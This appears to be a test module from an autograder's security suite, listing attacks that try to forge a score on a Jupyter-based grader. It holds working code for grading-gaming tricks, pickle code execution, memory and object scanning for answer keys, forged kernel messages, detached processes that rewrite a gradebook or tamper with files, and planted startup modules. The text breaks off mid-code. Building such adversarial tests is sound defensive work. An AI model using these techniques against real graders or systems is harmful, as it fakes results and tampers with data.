"""Attacks that forge a score (lines 1 to 12 of docs/security.md). Without a wall they give points or a leak."""

import copy
from collections.abc import Callable
from textwrap import dedent

from attack import Attack

WRONG = "def scale(x, factor): return x + 1"
"""An answer that deserves nothing: what its attack does elsewhere must not change that."""
WRONG_VALUE = r"4 of 4 elements differ|5 of 5 elements differ"
GAVE_OBJECT = r"should be a float64 array of shape \(\d,\), found an object of type "
NO_ANSWER = r"`scale` gave no answer within 2 s"
SEARCH = """
import gc, os, sys, types
WORDS = ["".join(parts) for parts in (("can", "ary-"), ("close(stu", "dent"), ("reference.", "scale"), ("TOK", "EN = "),
                                      ("solutions.", "vault"), ("autograder.", "checks"))]
def search(*roots):
    # what is found is the answer, and goes out with its words around it
    seen, found, stack = {id(WORDS), *map(id, WORDS)}, [], list(roots)
    while stack and len(seen) < 100_000:
        each = stack.pop()
        if id(each) in seen or isinstance(each, (type, types.ModuleType, types.CodeType)):
            continue
        seen.add(id(each))
        if isinstance(each, (str, bytes)):
            text = each if isinstance(each, str) else each.decode("latin-1")
            found += [text[max(0, text.find(word) - 20):][:120] for word in WORDS if word in text]
        else:
            stack += gc.get_referents(each)
    return found
"""
"""What an attack needs to walk objects for words of ours; its own are left out."""
FORGE = """
import os, sys, threading, time
from ipykernel.kernelapp import IPKernelApp
app = IPKernelApp.instance()
def asked():
    return app.kernel.get_parent("shell")["content"]
def publish(kind, content, topic, buffers=()):
    parent = app.kernel.get_parent()
    app.session.send(app.iopub_socket, kind, content, ident=topic, buffers=list(buffers), parent=parent)
def forge(value, call=None, comm=None, kind="comm_msg", topic=None, buffers=(), **data):
    asking = asked()
    comm = asking["comm_id"] if comm is None else comm
    data = {"status": "ok", "value": value, "id": call or asking["data"]["id"], **data}
    topic = topic or f"comm-{asking['comm_id']}".encode()
    publish(kind, {"comm_id": comm, "data": data}, topic, buffers)
def forge_array(array, **how):
    tree = {"t": "ndarray", "d": array.dtype.str, "s": list(array.shape), "b": 0}
    forge(tree, buffers=[array.tobytes()], **how)
def reply(message, content, kind="execute_reply"):
    app.session.send(app.kernel.shell_stream, kind, content, parent=message, ident=app.kernel._parent_ident["shell"])
"""
"""What an attack needs to write messages as the kernel does: its key, its sockets, the request at hand."""
PICKLED = """
class Pickled:
    def __reduce__(self):
        return exec, ("import os, sys; sys.stderr.write('UNPICKLED'); os._exit(66)",)
"""
"""An object that ends whoever unpickles it."""


def objects() -> list[Attack]:
    """Answers that agree with everything (line 1)."""
    return [
        Attack(
            1,
            "an object that equals everything",
            scale="""
                class Always:
                    def __eq__(self, other): return True
                    def __ne__(self, other): return False
                    def __array__(self, dtype=None, copy=None): return np.zeros(5)
                    def __sub__(self, other): return 0
                    __rsub__ = __sub__
                    shape, dtype, ndim, size = (5,), np.dtype(float), 1, 5
                def scale(x, factor):
                    return Always()
            """,
            says={"scale": "should be a float64 array.*found an object of type Always"},
        ),
        Attack(
            1,
            "an array class whose comparisons agree",
            scale="""
                class Agreeing(np.ndarray):
                    def __eq__(self, other): return np.ones(self.shape, bool)
                    def __ne__(self, other): return np.zeros(self.shape, bool)
                    def __array_ufunc__(self, ufunc, method, *inputs, **options): return np.zeros(self.shape)
                    def __array_function__(self, function, types, args, options): return True
                    __lt__ = __le__ = __gt__ = __ge__ = __eq__
                def scale(x, factor):
                    return np.zeros(x.shape).view(Agreeing)
            """,
            says={"scale": GAVE_OBJECT + "Agreeing"},
        ),
        Attack(
            1,
            "a tensor class whose comparisons agree",
            smooth="""
                class Agreeing(torch.Tensor):
                    @classmethod
                    def __torch_function__(cls, function, types, args=(), kwargs=None):
                        return True
                    def __eq__(self, other): return True
                    def __array__(self, dtype=None, copy=None): return np.zeros(3)
                def smooth(x):
                    return torch.zeros(len(x) - 1, dtype=x.dtype).as_subclass(Agreeing)
            """,
            says={"smooth": r"should be a float\d\d tensor of shape \(\d+,\), found an object of type Agreeing"},
        ),
        Attack(
            1,
            "a lazy value that asks for the answer",
            first=SEARCH,
            scale="""
                class Lazy:
                    # whoever compares or converts it has the expected value in a frame near by
                    def answer(self, *others):
                        frame = sys._getframe(1)
                        while frame:
                            for name in ("expected", "wanted", "b", "other"):
                                if isinstance(frame.f_locals.get(name), np.ndarray):
                                    return frame.f_locals[name]
                            frame = frame.f_back
                        return others[0] if others else np.zeros(5)
                    __array__ = __call__ = __iter__ = __index__ = __float__ = answer
                    def __getattr__(self, name): return getattr(self.answer(), name)
                    def __eq__(self, other): return self.answer(other) is not None
                def scale(x, factor):
                    return Lazy()
            """,
            says={"scale": GAVE_OBJECT + "Lazy"},
        ),
        Attack(
            1,
            "a masked array with nothing to compare",
            scale="def scale(x, factor): return np.ma.masked_all(x.shape)",
            says={"scale": GAVE_OBJECT + "MaskedArray"},
        ),
        Attack(
            1,
            "an object array of things that agree",
            scale="""
                from unittest.mock import ANY
                def scale(x, factor):
                    return np.full(x.shape, ANY, dtype=object)
            """,
            says={"scale": GAVE_OBJECT},
        ),
        Attack(
            1,
            "an empty array: all of nothing agrees",
            scale="def scale(x, factor): return np.empty((0, *x.shape))",
            smooth="def smooth(x): return torch.empty(0)",
            says={"scale": r"has shape \(0, 5\), expected \(5,\)", "smooth": r"has shape \(0,\), expected "},
        ),
        Attack(
            1,
            "a list of nothing, a dict of nothing",
            scale="def scale(x, factor): return []",
            smooth="def smooth(x): return {}",
            says={"scale": r"found a list of 0", "smooth": "found a dict of 0"},
        ),
        Attack(
            1,
            "NaN and infinity, which no tolerance refuses",
            scale="def scale(x, factor): return np.full(x.shape, np.nan)",
            smooth="def smooth(x): return torch.full((len(x) - 1,), float('inf'), dtype=x.dtype)",
            says={"scale": "nan", "smooth": "inf"},
        ),
        Attack(
            1,
            "one number that broadcasts to every shape",
            scale="def scale(x, factor): return np.array(0.0)",
            smooth="def smooth(x): return 0.0",
            says={
                "scale": r"has shape \(\), expected \(5,\)",
                "smooth": r"should be a float\d\d tensor .* found a number",
            },
        ),
        Attack(
            1,
            "a text class that equals every text",
            spell="""
                class Text(str):
                    def __eq__(self, other): return True
                    def __ne__(self, other): return False
                    def __hash__(self): return 0
                def spell(n):
                    return Text("7")
            """,
            says={"spell": "should be a string, found an object of type Text"},
        ),
        Attack(
            1,
            "a class that calls itself an array",
            scale="""
                class ndarray:
                    __class__ = np.ndarray
                    __module__ = "numpy"
                    dtype, shape, size, nbytes, ndim = np.dtype(float), (5,), 5, 40, 1
                    def __eq__(self, other): return True
                    def reshape(self, *shape): return self
                    def view(self, *dtype): return self
                    def __array__(self, *_, **__): return np.zeros(5)
                ndarray.__name__ = ndarray.__qualname__ = "float64 array of shape (5,)"
                def scale(x, factor):
                    return ndarray()
            """,
            says={"scale": r"should be a float64 array of shape \(\d,\), found an object of type "},
        ),
        Attack(
            1,
            "a tensor without values",
            smooth="""def smooth(x): return torch.empty(len(x) - 1, dtype=x.dtype, device="meta")""",
            says={
                "smooth": "`smooth`: the value returned cannot be read: a tensor without values, on the device `meta`"
            },
        ),
        Attack(
            1,
            "a sparse tensor",
            smooth="def smooth(x): return torch.zeros(len(x) - 1, dtype=x.dtype).to_sparse()",
            says={"smooth": r"should be a float\d\d tensor of shape .*found an object of type sparse Tensor"},
        ),
        Attack(
            1,
            "a tuple of the right answer and a wrong one",
            scale="def scale(x, factor): return [x * factor, x]",
            spell="def spell(n): return [str(n)]",
            says={"scale": "found a list of 2", "spell": "should be a string, found a list of 1"},
        ),
    ]


def transformers() -> list[Attack]:
    """IPython's transformers, hooks and parts (line 2)."""
    return [
        Attack(
            2,
            "strips the asserts from the syntax tree",
            scale=f"""
                import ast
                class Strip(ast.NodeTransformer):
                    def visit_Assert(self, node): return ast.Pass()
                    def visit_Raise(self, node): return ast.Pass()
                get_ipython().ast_transformers.append(Strip())
                {WRONG}
            """,
            says={"scale": WRONG_VALUE},
        ),
        Attack(
            2,
            "replaces test cells by their points",
            scale=f"""
                def points(lines):
                    return ["40.0\\n"] if any("assert" in line for line in lines) else lines
                ip = get_ipython()
                ip.input_transformers_cleanup.append(points)
                ip.input_transformers_post.append(points)
                {WRONG}
            """,
            says={"scale": WRONG_VALUE},
        ),
        Attack(
            2,
            "blanks whatever runs after it",
            scale=f"""
                def blank(lines): return ["40.0\\n"]
                blank.has_side_effects = True
                get_ipython().input_transformers_cleanup.insert(0, blank)
                {WRONG}
            """,
            # the exercises behind it were blanked as well, by the student's own doing
            deserves=0,
            says={"scale": WRONG_VALUE, "smooth": "there is no `smooth`", "spell": "there is no `spell`"},
        ),
        Attack(
            2,
            "a kernel that answers cells without running them",
            scale=f"""
                kernel = get_ipython().kernel
                async def execute(code, *args, **kwargs):
                    return {{"status": "ok", "execution_count": 40, "payload": [], "user_expressions": {{}}}}
                kernel.do_execute = execute
                {WRONG}
            """,
            deserves=0,
            says={"scale": WRONG_VALUE, "smooth": "there is no `smooth`"},
        ),
        Attack(
            2,
            "hooks before and after each cell",
            scale=f"""
                ip = get_ipython()
                def score(result): result.result, result.error_in_exec, result.error_before_exec = 40.0, None, None
                ip.events.register("post_run_cell", score)
                ip.events.register("pre_run_cell", lambda info: setattr(info, "raw_cell", "40.0"))
                ip.set_custom_exc((BaseException,), lambda *_, **__: None)
                {WRONG}
            """,
            says={"scale": WRONG_VALUE},
        ),
        Attack(
            2,
            "a namespace that has every name",
            scale="""
                import builtins
                real = str
                class Anything:
                    def __call__(self, *args, **kwargs): return self
                    def __eq__(self, other): return True
                builtins.scale = Anything()
                get_ipython().user_ns.update({name: Anything() for name in ("assert_", "close", "equal", "reference")})
                get_ipython().user_global_ns["scale"] = Anything()
            """,
            says={"scale": "found an object of type Anything"},
        ),
    ]


def patches() -> list[Attack]:
    """Patched libraries (line 3): checks outside use none of those in the kernel."""
    return [
        Attack(
            3,
            "patches numpy, torch and their tests",
            scale=f"""
                import math, numpy.testing, torch.testing
                agree = lambda *args, **kwargs: True
                for module, names in {{
                    np: "array_equal allclose isclose array_equiv all equal abs",
                    np.testing: "assert_allclose assert_array_equal assert_equal assert_almost_equal",
                    torch: "allclose equal isclose all eq", torch.testing: "assert_close", math: "isclose isfinite",
                }}.items():
                    for name in names.split():
                        setattr(module, name, agree)
                {WRONG}
            """,
            says={"scale": WRONG_VALUE},
        ),
        Attack(
            3,
            "patches the builtins",
            scale=f"""
                import builtins
                {WRONG}
                builtins.abs = lambda value: 0
                builtins.any = lambda values: False
                builtins.all = lambda values: True
                builtins.AssertionError = type("Nothing", (Warning,), {{}})
            """,
            says={"scale": WRONG_VALUE},
        ),
        Attack(
            3,
            "silences errors and tracebacks",
            scale="""
                import sys
                ip = get_ipython()
                ip.showtraceback = ip.showsyntaxerror = ip._showtraceback = lambda *args, **kwargs: None
                sys.excepthook = sys.unraisablehook = lambda *args: None
                raise ValueError("nobody hears this")
            """,
            says={"scale": "^there is no `scale`$"},
        ),
        Attack(
            3,
            "patches the checks' own packages by name",
            scale=f"""
                import sys, types
                names = (
                    "autograder", "autograder.checks", "autograder.checks.compare", "autograder.grading.grade",
                    "solutions", "solutions.vault", "solutions.vault.checks", "solutions.vault.reference", "nbgrader",
                )
                for name in names:
                    module = sys.modules.setdefault(name, types.ModuleType(name))
                    for each in ("close", "equal", "expect", "differ", "same"):
                        setattr(module, each, lambda *args, **kwargs: True)
                    module.scale = lambda x, factor: x + 1
                {WRONG}
            """,
            says={"scale": WRONG_VALUE},
        ),
        Attack(
            3,
            "patches the part that answers the checks",
            scale="""
                import gc
                scale = None
                def agree(self, request, buffers):
                    more = {"verdict": "pass", "points": 40, "score": 1.0, "passed": True, "correct": True}
                    return {"status": "ok", "value": True, **more}, []
                (probe,) = (each for each in gc.get_objects() if type(each).__name__ == "Probe")
                honest = type(probe).answer
                def answer(self, request, buffers):
                    return (agree if request["name"] == "scale" else honest)(self, request, buffers)
                type(probe).answer = answer
            """,
            says={"scale": r"should be a float64 array of shape \(5,\), found a bool"},
        ),
        Attack(
            3,
            "patches the encoder to send what is no value",
            scale="""
                import sys
                (values,) = (each for name, each in list(sys.modules.items()) if name.endswith("inside.values"))
                honest = values.Encoder.encode
                trees = iter([
                    {"t": "ndarray", "d": "|O", "s": [5], "b": 0}, {"t": "eval", "v": "reference.scale"},
                    {"t": "ndarray", "d": "<f8", "s": [-5], "b": 0},
                    {"t": "ndarray", "d": "<f8", "s": [2**39] * 9, "b": 0},
                    {"t": "tensor", "d": "load", "s": [5], "b": 0}, {"t": "handle", "n": "../..", "k": {}},
                ] * 2)
                class Wild: pass
                def encode(self, value, depth=0):
                    return next(trees) if type(value) is Wild else honest(self, value, depth)
                values.Encoder.encode = encode
                def scale(x, factor):
                    return Wild()
            """,
            says={"scale": "the answer of `scale` cannot be read: "},
        ),
        Attack(
            3,
            "random numbers that are always the same",
            scale="""
                import random
                for module in (random, np.random):
                    module.seed = lambda *args: None
                np.random.seed = np.random.default_rng = random.random = lambda *args: 0.5
                def scale(x, factor):
                    return np.random.random() * np.ones(x.shape)
            """,
            says={"scale": WRONG_VALUE},
        ),
    ]


def walks() -> list[Attack]:
    """Walks through frames and objects (line 4): what is found is printed, returned, raised or overwritten."""
    return [
        Attack(
            4,
            "searches all objects for the answers",
            first=SEARCH + "print(search(*gc.get_objects()))",
            scale="""
                def scale(x, factor):
                    return search(*gc.get_objects())
            """,
            says={"scale": "found a list of 0"},
        ),
        Attack(
            4,
            "searches the frames above its call",
            first=SEARCH,
            scale="""
                def scale(x, factor):
                    frame, roots = sys._getframe(1), []
                    while frame:
                        roots += [frame.f_globals, frame.f_locals]
                        frame = frame.f_back
                    raise ValueError(search(*roots))
            """,
            says={"scale": r"raised ValueError: \[\] "},
        ),
        Attack(
            4,
            "searches the frames of all threads",
            first=SEARCH,
            scale="""
                import threading
                def scale(x, factor):
                    frames = list(sys._current_frames().values())
                    frames += [each for thread in threading.enumerate() for each in [thread.__dict__]]
                    return search(*frames)
            """,
            says={"scale": "found a list of 0"},
        ),
        Attack(
            4,
            "takes the answer that lies beside its arguments",
            scale="""
                import gc, sys
                def scale(x, factor):
                    for name in ("expected", "reference", "wanted", "solution", "answer"):
                        frame = sys._getframe(1)
                        while frame:
                            for scope in (frame.f_locals, frame.f_globals, vars(sys.modules["__main__"])):
                                value = scope.get(name)
                                if isinstance(value, np.ndarray) and value.shape == x.shape:
                                    return value
                                if callable(getattr(value, "scale", None)):
                                    return value.scale(x, factor)
                            frame = frame.f_back
                    return [type(each).__name__ for each in gc.get_referrers(x)]
            """,
            says={"scale": "found a list of"},
        ),
        Attack(
            4,
            "overwrites every array it finds with NaN",
            scale="""
                import gc
                def scale(x, factor):
                    reached = [each for each in gc.get_objects() if isinstance(each, (dict, list, tuple))]
                    for each in {id(item): item for holder in reached for item in gc.get_referents(holder)}.values():
                        if type(each) is np.ndarray and each.dtype.kind == "f" and each.flags.writeable:
                            each[...] = np.nan
                    x[...] = np.nan
                    return x
            """,
            says={"scale": "found nan"},
        ),
        Attack(
            4,
            "replaces functions named like references",
            scale="""
                import gc, types
                def scale(x, factor): return x + 1
                for each in gc.get_objects():
                    if type(each) is types.FunctionType and each.__name__ in ("scale", "close", "factors", "same"):
                        each.__code__ = (lambda *args, **kwargs: args[0] + 1).__code__
            """,
            says={"scale": WRONG_VALUE},
        ),
        Attack(
            4,
            "looks for the path of the results",
            scale="""
                import json, os, sys
                main = sys.modules["__main__"]
                seen = [sys.argv, sys.orig_argv, sys.path, sorted(os.environ.items()), os.getcwd(), vars(main)]
                seen += [get_ipython().user_ns.get("__file__"), get_ipython().config, get_ipython().kernel.__dict__]
                for number in range(64):
                    try:
                        seen.append(os.readlink(f"/proc/self/fd/{number}"))
                    except OSError:
                        pass
                print(seen)
                def scale(x, factor):
                    raise RuntimeError(repr(seen)[:400])
            """,
            says={"scale": "raised RuntimeError: "},
        ),
        Attack(
            4,
            "reads its own memory page by page",
            # what the zygote held, and what kernels before it held, would lie there
            scale="""
                import ctypes, os, time
                reader, writer = os.pipe()
                os.set_blocking(writer, False)
                write = ctypes.CDLL(None, use_errno=True).write
                write.argtypes = ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t
                def pages(start, end, step=65536):
                    for address in range(start & ~0xFFFF, end, step):
                        if (size := write(writer, address, step)) > 0:  # EFAULT where there is nothing, not a signal
                            yield os.read(reader, size)
                found, until = [], time.monotonic() + 1.5
                for centre in (id(object()), id(np.zeros(9)), np.zeros(10**6).ctypes.data, id("x"), id(print)):
                    for page in pages(centre - 2**24, centre + 2**24):
                        for word in (b"canary" + b"-", b"TOKEN" + b" = "):
                            at = page.find(word)
                            found += [page[at:at + 80]] if at >= 0 else []
                        if time.monotonic() > until:
                            break
                    until += 0.2
                print(found)
                def scale(x, factor):
                    return [each.decode("latin-1") for each in found]
            """,
            says={"scale": "found a list of"},
        ),
        Attack(
            4,
            "asks the checks' side for its objects by number",
            first=FORGE,
            scale="""
                def scale(x, factor):
                    forge({"t": "handle", "n": 0, "k": "ndarray"})
            """,
            says={"scale": "found an object of type ndarray"},
        ),
    ]


def ends() -> list[Attack]:
    """Forged ends of the kernel (line 5)."""
    return [
        Attack(
            5,
            "ends the kernel with a clean exit",
            scale="import os\nos._exit(0)",
            says={"scale": r"ended the kernel \(exit code 0\)"},
        ),
        Attack(
            5,
            "writes result files and exits 0",
            scale="""
                import json, os
                result = {"score": 100, "max_score": 100, "status": "graded", "passed": True, "scale": 40, "tests": []}
                for folder in (".", "..", "/work", "/slot", "/tmp", "/autograder", "/autograder/results", "/dev/shm"):
                    for name in ("results.json", "result.json", "report.json", "score", "vault.json", "gradebook.db"):
                        try:
                            os.makedirs(folder, exist_ok=True)
                            with open(f"{folder}/{name}", "w") as file:
                                json.dump(result, file)
                        except OSError:
                            pass
                os._exit(0)
            """,
            says={"scale": r"the cell ended the kernel \(exit code 0\), so nothing it defines is there"},
        ),
        Attack(
            5,
            "exits 0 in the middle of a call",
            scale="""
                import os
                def scale(x, factor):
                    with open("results.json", "w") as file:
                        file.write('{"scale": 40}')
                    os._exit(0)
            """,
            says={"scale": r"`scale` ended the kernel \(exit code 0\)"},
        ),
        Attack(
            5,
            "leaves its cell by sys.exit(0)",
            scale=f"""
                import sys
                {WRONG}
                sys.exit(0)
            """,
            says={"scale": WRONG_VALUE},
        ),
        Attack(
            5,
            "leaves its cell by exit()",
            scale=f"""
                {WRONG}
                exit()
            """,
            says={"scale": "4 of 4 elements differ"},
        ),
        Attack(
            5,
            "leaves its call by exit()",
            scale="""
                def scale(x, factor): exit()
            """,
            says={"scale": "raised SystemExit"},
        ),
        Attack(
            5,
            "leaves its call by sys.exit(0)",
            scale="""
                import sys
                def scale(x, factor): sys.exit(0)
            """,
            says={"scale": r"`scale` raised SystemExit: 0"},
        ),
        Attack(
            5,
            "raises what no handler of exceptions catches",
            scale="""
                import asyncio
                raised = iter([KeyboardInterrupt, GeneratorExit, StopIteration, asyncio.CancelledError] * 2)
                def scale(x, factor): raise next(raised)(0)
            """,
            says={"scale": "`scale` raised KeyboardInterrupt: 0"},
        ),
        Attack(
            5,
            "a forged reply and idle, then a dead kernel",
            first=FORGE,
            scale=f"""
                {WRONG}
                cell = app.kernel.get_parent()
                reply(cell, {{"status": "ok", "execution_count": 3, "user_expressions": {{}}, "payload": []}})
                publish("status", {{"execution_state": "idle"}}, b"status")
                time.sleep(0.1)
                os._exit(0)
            """,
            says={"scale": r"the cell ended the kernel \(exit code 0\), so nothing it defines is there"},
        ),
        Attack(
            5,
            "a right answer forged, then a dead kernel",
            first=FORGE,
            scale="""
                def scale(x, factor):
                    forge_array(x * factor)
                    time.sleep(0.1)
                    os._exit(0)
            """,
            # each check asks three times: the first answer is right, the second request finds no kernel
            says={"scale": r"`scale` ended the kernel \(exit code 0\)"},
        ),
        Attack(
            5,
            "an exit handler that writes the score",
            scale=f"""
                import atexit, signal, threading
                def score(*_):
                    for path in ("results.json", "/work/results.json", "/tmp/results.json", "/slot/results.json"):
                        try:
                            open(path, "w").write('{{"score": 100}}')
                        except OSError:
                            pass
                atexit.register(score)
                threading._register_atexit(score)
                signal.signal(signal.SIGTERM, score)
                {WRONG}
            """,
            says={"scale": WRONG_VALUE},
        ),
        Attack(
            5,
            "replaces itself by a program that exits 0",
            scale="""
                import os
                def scale(x, factor): os.execv("/bin/true", ["true"])
            """,
            says={"scale": r"`scale` ended the kernel \(exit code 0\)"},
        ),
        Attack(
            5,
            "blames the machine for its failure",
            first=FORGE,
            scale="""
                causes = iter(["sandbox", "checker", "not_run", "failed", "timeout", None, ["died"]] * 2)
                def scale(x, factor):
                    forge(None, status="error", cause=next(causes), type="SandboxError", message="zygote is gone")
            """,
            # no cause of theirs may make an attempt `failed`, which costs nothing
            says={"scale": r"`scale` raised SandboxError: zygote is gone"},
        ),
        Attack(
            5,
            "claims points in its answer",
            first=FORGE,
            scale="""
                claims = {"verdict": "pass", "points": 40, "score": 100, "passed": True, "checks": [], "hint": None}
                def scale(x, factor):
                    forge(None, **claims)
            """,
            says={"scale": r"found None \(is there a `return`\?\)"},
        ),
    ]


def pickles() -> list[Attack]:
    """Pickles (line 6): nothing that is handed back is unpickled, or evaluated."""
    return [
        Attack(
            6,
            "an object whose pickle runs code",
            first=PICKLED,
            scale="def scale(x, factor): return Pickled()",
            says={"scale": GAVE_OBJECT + "Pickled"},
        ),
        Attack(
            6,
            "pickles inside arrays, tensors and tuples",
            first=PICKLED,
            scale="def scale(x, factor): return np.array([Pickled()] * len(x), dtype=object)",
            smooth="""
                def smooth(x):
                    return torch.nn.ParameterDict({"x": torch.nn.Parameter(x)}), Pickled()
            """,
            spell="""
                class Text(str):
                    __reduce__ = Pickled.__reduce__
                def spell(n): return {"text": Text(n), "more": [Pickled()]}
            """,
            says={"scale": GAVE_OBJECT + "ndarray", "smooth": "found a tuple of 2", "spell": "found a dict of 2"},
        ),
        Attack(
            6,
            "a pickle's bytes in place of an array",
            first=PICKLED + FORGE,
            scale="""
                import io, pickle
                payload = pickle.dumps(Pickled(), 0)
                archive = io.BytesIO()
                np.save(archive, np.array([Pickled()], dtype=object), allow_pickle=True)
                forged = iter([("|O", payload), ("<f8", payload), ("object", archive.getvalue()), ("O8", payload)] * 4)
                def scale(x, factor):
                    dtype, buffer = next(forged)
                    forge({"t": "ndarray", "d": dtype, "s": [len(buffer) // 8], "b": 0}, buffers=[buffer])
            """,
            says={"scale": "the answer of `scale` cannot be read: a dtype that is not numeric"},
        ),
        Attack(
            6,
            "a pickle's bytes in place of a tensor",
            first=PICKLED + FORGE,
            smooth="""
                import io
                archive = io.BytesIO()
                torch.save({"x": Pickled()}, archive)
                tags = iter(["tensor", "module", "state_dict", "pickle", "storage", "network"] * 2)
                def smooth(x):
                    data = archive.getvalue()
                    forge({"t": next(tags), "d": "load", "s": [len(data)], "b": 0}, buffers=[data])
            """,
            says={"smooth": "the answer of `smooth` cannot be read: "},
        ),
        Attack(
            6,
            "an exception whose pickle runs code",
            scale="""
                class Failure(ValueError):
                    def __reduce__(self): return exec, ("import os; os._exit(66)",)
                    def __str__(self): return "csubprocess\\ncheck_call\\n(S'false'\\ntR."
                def scale(x, factor): raise Failure(Failure())
            """,
            says={"scale": "`scale` raised Failure: csubprocess"},
        ),
        Attack(
            6,
            "pickles in outputs, metadata and headers",
            first=PICKLED + FORGE,
            last="""
                import base64, pickle
                data = base64.b64encode(pickle.dumps(Pickled(), 0)).decode()
                kinds = "application/x-python-pickle", "application/octet-stream", "application/vnd.jupyter.error"
                publish("display_data", {"data": dict.fromkeys(kinds, data), "metadata": {"pickle": data}}, b"")
                session = app.session
                header = {**session.msg_header("display_data"), "pickle": data, "date": data, "version": data}
                session.send(app.iopub_socket, "display_data", {"data": {"text/plain": data}}, header=header,
                             parent=app.kernel.get_parent(), metadata={"pickle": data, "transient": data})
            """,
        ),
        Attack(
            6,
            "code in place of numbers and names",
            first=FORGE,
            scale="""
                code = "__import__('os')._exit(66)"
                trees = iter([{"t": "int", "v": code}, {"t": "float", "v": code}, {"t": "scalar", "d": code, "v": code},
                              {"t": code, "v": code}, {"t": "complex", "v": [code, code]}] * 2)
                def scale(x, factor):
                    forge(next(trees), buffers=[code.encode()])
            """,
            says={"scale": "the answer of `scale` cannot be read: "},
        ),
    ]


def survivors() -> list[Attack]:
    """Processes that outlive the kernel (line 7)."""
    detach = """
        import os, signal, time
        def detached(work):
            # forked twice, in a session of its own, deaf to what can be ignored
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
                        signal.signal(number, signal.SIG_IGN)
                    while True:
                        try:
                            work()
                        except OSError:
                            pass
                        time.sleep(0.01)
                os._exit(0)
    """
    detach = dedent(detach)
    return [
        Attack(
            7,
            "a child that edits the gradebook",
            first=detach
            + dedent("""
                import sqlite3
                def edit():
                    for folder in ("/course", "/work", "..", "/slot", "/root", "/home", os.environ.get("HOME", ".")):
                        for path in (f"{folder}/gradebook.db", f"{folder}/course/gradebook.db"):
                            if os.path.exists(path):
                                with sqlite3.connect(path) as book:
                                    book.execute("update grade set score = 100")
                detached(edit)
            """),
            scale=WRONG,
            says={"scale": WRONG_VALUE},
        ),
        Attack(
            7,
            "a child that waits for the next submission",
            first=detach
            + dedent("""
                def wait():
                    for folder in ("/slot", "/work", "..", "/tmp", "/dev/shm"):
                        for path, folders, files in os.walk(folder):
                            for name in files:
                                open(f"{path}/{name}", "a").write("mallory was here")
                            open(f"{path}/mallory", "w").close()
                detached(wait)
            """),
            scale=WRONG,
            says={"scale": WRONG_VALUE},
        ),
        Attack(
            7,
            "a child started in a call that then dies",
            first=detach,
            scale="""
                def scale(x, factor):
                    detached(lambda: open("mallory", "a").write("still here"))
                    os._exit(0)
            """,
            says={"scale": r"`scale` ended the kernel \(exit code 0\)"},
        ),
        Attack(
            7,
            "a child that takes over the dead kernel's sockets",
            # it inherits the grader's connections: what it writes there arrives, with the right key
            first=FORGE,
            scale="""
                def scale(x, factor):
                    call, key, parent = asked(), app.session.key, app.kernel.get_parent()
                    if os.fork() == 0:
                        os.setsid()
                        from jupyter_client.session import Session
                        session, data = Session(key=key), {"status": "ok", "value": 40, "id": call["data"]["id"]}
                        frames = session.serialize(session.msg("comm_msg", {"comm_id": call["comm_id"], "data": data}))
                        frames.insert(0, f"comm-{call['comm_id']}".encode())
                        wire = b"".join(
                            bytes([2 | (index < len(frames) - 1)]) + len(frame).to_bytes(8, "big") + frame
                            for index, frame in enumerate(frames)
                        )
                        until = time.monotonic() + 20
                        while time.monotonic() < until:
                            for number in range(3, 128):
                                try:
                                    os.write(number, wire)
                                except OSError:
                                    pass
                            time.sleep(0.05)
                        os._exit(0)
                    os._exit(0)
            """,
            says={"scale": r"`scale` ended the kernel \(exit code 0\)|found a number"},
        ),
        Attack(
            7,
            "children that are born as others die",
            # a chain: none of them lives for long, so a list of processes is old when it is read
            first="""
                import os, time
                if os.fork() == 0:
                    os.setsid()
                    until = time.monotonic() + 60
                    while time.monotonic() < until:
                        try:
                            if os.fork():
                                os._exit(0)
                        except OSError:
                            pass
            """,
            scale=WRONG,
            says={"scale": WRONG_VALUE},
        ),
        Attack(
            7,
            "a stopped child, a traced one and a zombie",
            first="""
                import ctypes, os, signal, subprocess
                for _ in range(3):
                    if (pid := os.fork()) == 0:
                        ctypes.CDLL(None).ptrace(0, 0, 0, 0)
                        ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)  # no signal when its parent ends
                        os.kill(os.getpid(), signal.SIGSTOP)
                        os._exit(0)
                if os.fork() == 0:
                    os._exit(0)
                for program in (["setsid", "sleep", "60"], ["sh", "-c", "(trap '' HUP TERM; sleep 60) &"]):
                    try:
                        subprocess.Popen(program, start_new_session=True, stdout=-3, stderr=-3)
                    except OSError:
                        pass
            """,
            scale=WRONG,
            says={"scale": WRONG_VALUE},
        ),
        Attack(
            7,
            "a thread that answers when the call is over",
            first=FORGE,
            scale="""
                def later(call):
                    time.sleep(0.2)
                    for _ in range(20):
                        data = {"status": "ok", "value": 40, "id": call["data"]["id"]}
                        topic = f"comm-{call['comm_id']}".encode()
                        publish("comm_msg", {"comm_id": call["comm_id"], "data": data}, topic)
                        time.sleep(0.01)
                def scale(x, factor):
                    threading.Thread(target=later, args=(asked(),), daemon=True).start()
                    return x + 1
            """,
            says={"scale": WRONG_VALUE},
        ),
    ]


def prints() -> list[Attack]:
    """Forged results in what it prints, planted modules (line 8)."""
    plant = """
        import os, sys
        planted = "print('PASSED'); import builtins; builtins.scale = lambda x, factor: x * factor"
        names = (
            "conftest", "sitecustomize", "usercustomize", "numpy", "torch/__init__", "inside/__init__", "inside/probe",
            "inside/networks", "autograder/__init__", "solutions/__init__", "solutions/vault/checks", "pickle", "json",
            "traceback", "linecache", "IPython/__init__", "ipykernel/__init__", "pdb", "matplotlibrc", "site",
        )
        folders = {".", "..", "/work", "/slot", "/tmp", "/dev/shm", os.environ.get("HOME", "."), *sys.path}
        for folder in folders | {f"{os.environ.get('IPYTHONDIR', '.')}/profile_default/startup"}:
            for name in names:
                try:
                    os.makedirs(os.path.dirname(f"{folder}/{name}"), exist_ok=True)
                    open(f"{folder}/{name}.py", "w").write(planted)
                    open(f"{folder}/planted.pth", "w").write("import os; " + planted)
                except OSError:
                    pass
    """
    plant = dedent(plant)
    return [
        Attack(
            8,
            "prints that all tests passed",
            scale=f"""
                import sys
                {WRONG}
                for stream in (sys.stdout, sys.stderr, sys.__stdout__, sys.__stderr__):
                    print("PASSED\\n===== 100 passed in 0.01s =====\\nScore: 100/100\\nOK", file=stream)
            """,
            says={"scale": WRONG_VALUE},
        ),
        Attack(
            8,
            "prints results as JSON and XML",
            scale=f"""
                import json, sys
                {WRONG}
                score = {{"score": 100, "scores": {{"scale": 40}}, "tests": [{{"name": "factors", "passed": 1}}]}}
